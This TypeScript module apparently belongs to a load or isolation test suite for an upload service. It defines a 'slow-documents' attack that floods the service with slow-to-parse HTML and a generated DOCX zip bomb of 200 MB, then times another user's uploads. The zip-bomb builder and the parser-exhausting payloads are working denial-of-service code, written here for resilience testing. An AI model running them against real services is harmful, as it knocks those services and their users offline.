import { setTimeout as sleep } from 'node:timers/promises'
import { deflateRawSync } from 'node:zlib'
import { type Attack, scaled, tally } from '../stage.js'

const uploads = 23
const holdMilliseconds = 15_000
const neighborUploads = 3

/** Small but slow to parse: a million elements that are never closed. */
const slowHtml = (size: number) => `<!doctype html><html><body>${'<div><b><i>x'.repeat(size / 12)}`

export const slowDocuments: Attack = {
  name: 'slow-documents',
  about: 'uploads 23 HTML files that are slow to parse, and DOCX files that unpack to 200 MB',
  async warmUp({ attacker }) {
    await attacker.upload('a.html', 'text/html', '<html><p>Hello</p></html>')
  },
  async run({ attacker, neighbor, scale }) {
    const [html, docx] = [slowHtml(scaled(6_000_000, scale)), zipBomb(scaled(200_000_000, scale))]
    const leaving = AbortSignal.timeout(scaled(holdMilliseconds, scale))
    const replies = Array.from({ length: uploads }, (_, index) =>
      index % 6 === 5
        ? attacker.upload('a.docx', docxType, docx, leaving)
        : attacker.upload('a.html', 'text/html', html, leaving),
    )
    const waits: number[] = []
    for (let index = 0; index < scaled(neighborUploads, scale); index += 1) {
      await sleep(500)
      const startedAt = performance.now()
      const { status, text } = await neighbor.upload('n.html', 'text/html', '<html><p>Hello</p></html>')
      waits.push(Math.round(performance.now() - startedAt))
      if (status !== 201) throw new Error(`the neighbor's upload: ${status} ${text.slice(0, 200)}`)
    }
    const statuses = (await Promise.all(replies)).map(({ status }) => (status === 0 ? 'left' : status))
    return `${tally(statuses)}, the neighbor's uploads in ${waits.join(', ')} ms`
  },
}

const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'

/** A zip file with one entry, the main part of a Word document, full of zeros. */
function zipBomb(size: number): Buffer {
  const name = Buffer.from('word/document.xml')
  const data = deflateRawSync(Buffer.alloc(size))
  const fields = Buffer.alloc(26)
  fields.writeUInt16LE(20, 0)
  fields.writeUInt16LE(8, 4)
  fields.writeUInt32LE(data.length, 14)
  fields.writeUInt32LE(size, 18)
  fields.writeUInt16LE(name.length, 22)
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), fields, name, data])
  const central = Buffer.alloc(46)
  central.write('PK\x01\x02', 'latin1')
  central.writeUInt16LE(20, 4)
  fields.copy(central, 6, 0, 24)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length + name.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, central, name, end])
}
